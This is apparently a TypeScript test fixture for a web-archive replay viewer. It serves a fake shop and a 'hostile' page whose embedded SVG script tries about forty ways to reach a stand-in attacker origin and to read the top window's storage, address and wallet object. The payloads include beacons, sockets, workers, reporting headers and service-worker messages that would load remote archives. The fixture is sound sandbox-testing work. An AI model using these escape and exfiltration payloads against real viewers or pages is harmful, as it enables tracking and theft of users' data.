// Pages to be captured: a shop, and one that means no good. When it is replayed the latter tries every way out that is known, from a document that the viewer does not rewrite.
import { createSocket } from 'node:dgram'
import { once } from 'node:events'
import { readFileSync } from 'node:fs'
import { createServer, type ServerResponse } from 'node:http'
import type { AddressInfo } from 'node:net'
import { PHOTO } from './app.ts'

export interface Listener {
  /** `http://127.0.0.1:PORT`, an origin that nothing has to do with. */
  origin: string
  /** What came there: connections, requests by their paths, datagrams. */
  heard: string[]
  close(): void
}

/** Somewhere else, where a page would report to; it hears connections without a request too, and datagrams. */
export async function listen(): Promise<Listener> {
  const heard: string[] = []
  const server = createServer((request, response) => {
    heard.push(`request ${request.url}`)
    response.writeHead(200, { 'access-control-allow-origin': '*' }).end()
  })
  server.on('connection', () => heard.push('connection'))
  server.on('upgrade', (request, socket) => {
    heard.push(`socket ${request.url}`)
    socket.destroy()
  })
  server.listen(0, '127.0.0.1')
  await once(server, 'listening')
  const { port } = server.address() as AddressInfo
  const datagrams = createSocket('udp4', () => heard.push('datagram'))
  datagrams.bind(port, '127.0.0.1')
  await once(datagrams, 'listening')
  return {
    origin: `http://127.0.0.1:${port}`,
    heard,
    close() {
      server.closeAllConnections()
      server.close()
      datagrams.close()
    },
  }
}

/** Ways out, each a few lines of script; `EVIL` is where they lead. */
export const WAYS: Record<string, string> = {
  fetch: `await fetch(EVIL + '/fetch', { mode: 'no-cors' })`,
  keepalive: `await fetch(EVIL + '/keepalive', { mode: 'no-cors', keepalive: true })`,
  later: `fetchLater(EVIL + '/later', { activateAfter: 0 })`,
  xhr: `await new Promise((resolve) => { const x = new XMLHttpRequest(); x.onloadend = resolve; x.open('GET', EVIL + '/xhr'); x.send() })`,
  beacon: `navigator.sendBeacon(EVIL + '/beacon', 'secret')`,
  events: `new EventSource(EVIL + '/events')`,
  socket: `new WebSocket(EVIL.replace('http', 'ws') + '/socket')`,
  transport: `new WebTransport(EVIL.replace('http:', 'https:') + '/transport')`,
  image: `new Image().src = EVIL + '/image'`,
  script: `add('script', { src: EVIL + '/script' })`,
  module: `await import(EVIL + '/module')`,
  style: `add('link', { rel: 'stylesheet', href: EVIL + '/style' })`,
  rule: `add('style', {}).textContent = '@import url(' + EVIL + '/rule); * { background: url(' + EVIL + '/background) }'`,
  font: `await new FontFace('x', 'url(' + EVIL + '/font)').load()`,
  preload: `add('link', { rel: 'preload', as: 'image', href: EVIL + '/preload' })`,
  prefetch: `add('link', { rel: 'prefetch', href: EVIL + '/prefetch' })`,
  manifest: `add('link', { rel: 'manifest', href: EVIL + '/manifest' })`,
  icon: `add('link', { rel: 'icon', href: EVIL + '/icon' })`,
  speculation: `add('script', { type: 'speculationrules' }).textContent = JSON.stringify({ prefetch: [{ urls: [EVIL + '/speculation'], eagerness: 'immediate' }], prerender: [{ urls: [EVIL + '/prerender'], eagerness: 'immediate' }] })`,
  frame: `add('iframe', { src: EVIL + '/frame' })`,
  object: `add('object', { data: EVIL + '/object' })`,
  embed: `add('embed', { src: EVIL + '/embed' })`,
  video: `add('video', { src: EVIL + '/video', poster: EVIL + '/poster', preload: 'auto' })`,
  track: `add('audio', { src: EVIL + '/audio', autoplay: '' })`,
  form: `const form = add('form', { action: EVIL + '/form', method: 'post' }); form.submit()`,
  ping: `const link = add('a', { href: '#', ping: EVIL + '/ping' }); link.click()`,
  blank: `add('a', { href: EVIL + '/blank', target: '_blank' }).click()`,
  popup: `if (window.open(EVIL + '/popup') !== null) throw new Error('a window was opened')`,
  self: `const inner = add('iframe', {}); inner.contentWindow.location = EVIL + '/self'`,
  // Connections without a request: the policy on contents does not know them.
  preconnect: `add('link', { rel: 'preconnect', href: EVIL })`,
  refresh: `add('iframe', { srcdoc: '<meta http-equiv="refresh" content="0;url=' + EVIL + '/refresh">' })`,
  data: `add('iframe', { src: 'data:text/html,<script>fetch("' + EVIL + '/data",{mode:"no-cors"});new Image().src="' + EVIL + '/dataimage"<\\/script>' })`,
  blob: `add('iframe', { src: URL.createObjectURL(new Blob(['<script>fetch("' + EVIL + '/blob",{mode:"no-cors"})<\\/script>'], { type: 'text/html' })) })`,
  worker: `new Worker(URL.createObjectURL(new Blob(['fetch("' + EVIL + '/worker",{mode:"no-cors"});importScripts("' + EVIL + '/import")'])))`,
  shared: `new SharedWorker(URL.createObjectURL(new Blob(['fetch("' + EVIL + '/shared",{mode:"no-cors"})'])))`,
  // A document of the replay's server, its errors among them, is one more window to ask from.
  missing: `const gone = add('iframe', { src: '/there-is-no-such-page' }); await new Promise((resolve) => { gone.onload = resolve }); await gone.contentWindow.fetch(EVIL + '/missing', { mode: 'no-cors' })`,
  host: `await parent.parent.parent.fetch(EVIL + '/host', { mode: 'no-cors' })`,
  viewer: `await parent.parent.fetch(EVIL + '/viewer', { mode: 'no-cors' })`,
  // The viewer's service worker would fetch archives from anywhere.
  collection: `navigator.serviceWorker.controller.postMessage({ msg_type: 'addColl', name: 'x', file: { sourceUrl: EVIL + '/collection.wacz', loadUrl: EVIL + '/collection.wacz' } })`,
  proxy: `navigator.serviceWorker.controller.postMessage({ msg_type: 'addColl', name: 'live', type: 'live', file: { sourceUrl: 'proxy:' + EVIL + '/proxy' }, extraConfig: { prefix: EVIL + '/', isLive: true } }); await new Promise((resolve) => setTimeout(resolve, 300)); await fetch('/viewer/w/live/mp_/' + EVIL + '/live')`,
  unguarded: `await parent.parent.parent.navigator.serviceWorker.register('/viewer/sw.js?serveIndex=1', { scope: '/viewer/' }); throw new Refused(false)`,
}

/** Of what lies beyond the frame; each must fail. */
export const REACHES: Record<string, string> = {
  storage: `top.localStorage.length`,
  document: `top.document.title`,
  wallet: `top.ethereum`,
  address: `top.location.href`,
  parentDocument: `parent.parent.parent.parent.document.title`,
}

const SCRIPT = (evil: string): string => `
const EVIL = ${JSON.stringify(evil)}
class Refused extends Error { constructor(refused) { super(); this.refused = refused } }
const space = 'http://www.w3.org/1999/xhtml'
const add = (name, attributes) => {
  const element = document.createElementNS(space, name)
  for (const [key, value] of Object.entries(attributes)) element.setAttribute(key, value)
  document.documentElement.append(element)
  return element
}
if (location.pathname.startsWith('/viewer/')) (async () => {
  window.tried = {}
  const trying = async (name, way) => {
    const late = new Promise((resolve) => setTimeout(resolve, 1000, 'went on'))
    window.tried[name] = await Promise.race([late, way().then(() => 'passed', (fault) => fault instanceof Refused ? 'PASSED' : 'refused: ' + fault)])
  }
  window.reached = {}
  ${Object.entries(REACHES)
    .map(([name, code]) => `try { window.reached[${JSON.stringify(name)}] = String(${code}) } catch { }`)
    .join('\n  ')}
  window.reached.own = JSON.stringify([typeof window.ethereum, Object.keys(localStorage).filter((key) => key.startsWith('colophon'))])
  await Promise.all([${Object.entries(WAYS)
    .map(([name, code]) => `trying(${JSON.stringify(name)}, async () => { ${code} })`)
    .join(',\n    ')}])
  window.over = true
})()`

export interface HostileSite {
  /** `127.0.0.1:PORT` */
  host: string
  close(): void
}

/**
 * A shop at `/`, and at `/hostile` a page that tries to get out.
 * @param evil - origin that its scripts report to
 */
export async function serveHostileSite(evil: string): Promise<HostileSite> {
  const picture = readFileSync(PHOTO)
  const answers: Record<string, (response: ServerResponse) => void> = {
    '/': (response) =>
      response
        .writeHead(200, { 'content-type': 'text/html; charset=utf-8' })
        .end(`<!doctype html><html lang="en"><head><title>Posters for your kitchen</title><meta name="viewport" content="width=device-width">
<link rel="stylesheet" href="/style.css"></head><body><h1>Posters for your kitchen</h1>
<img src="/coffee.jpg" alt="Coffee"><p id="price">…</p><a href="/next">More posters</a>
<script>document.getElementById('price').textContent = 'Now for 19 euros, printed on demand.'</script></body></html>`),
    '/hostile': (response) =>
      response
        .writeHead(200, {
          'content-type': 'text/html; charset=utf-8',
          'reporting-endpoints': `default="${evil}/reports"`,
          'report-to': JSON.stringify({ group: 'default', max_age: 600, endpoints: [{ url: `${evil}/reportsto` }] }),
          nel: JSON.stringify({ report_to: 'default', max_age: 600, success_fraction: 1 }),
          'content-security-policy-report-only': `default-src 'none'; report-uri ${evil}/violations; report-to default`,
        })
        .end(`<!doctype html><html lang="en"><head><title>A shop</title><link rel="dns-prefetch" href="${evil}"></head>
<body><h1>A shop like any other</h1><iframe src="/raw.svg" width="60" height="60"></iframe></body></html>`),
    '/style.css': (response) =>
      response
        .writeHead(200, { 'content-type': 'text/css' })
        .end('body { font: 1rem sans-serif; margin: 1rem } h1 { color: rgb(12, 90, 60) } img { max-width: 100% }'),
    '/coffee.jpg': (response) => response.writeHead(200, { 'content-type': 'image/jpeg' }).end(picture),
    '/raw.svg': (response) =>
      response
        .writeHead(200, { 'content-type': 'image/svg+xml', link: `<${evil}/linked>; rel=preload; as=image` })
        .end(
          `<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 8 8"><rect width="8" height="8" fill="#933"/><script><![CDATA[${SCRIPT(evil)}]]></script></svg>`,
        ),
  }
  const server = createServer((request, response) => {
    const answer = answers[new URL(request.url!, 'http://x').pathname]
    if (answer === undefined) response.writeHead(404).end()
    else answer(response)
  }).listen(0, '127.0.0.1')
  await once(server, 'listening')
  return {
    host: `127.0.0.1:${(server.address() as AddressInfo).port}`,
    close() {
      server.closeAllConnections()
      server.close()
    },
  }
}
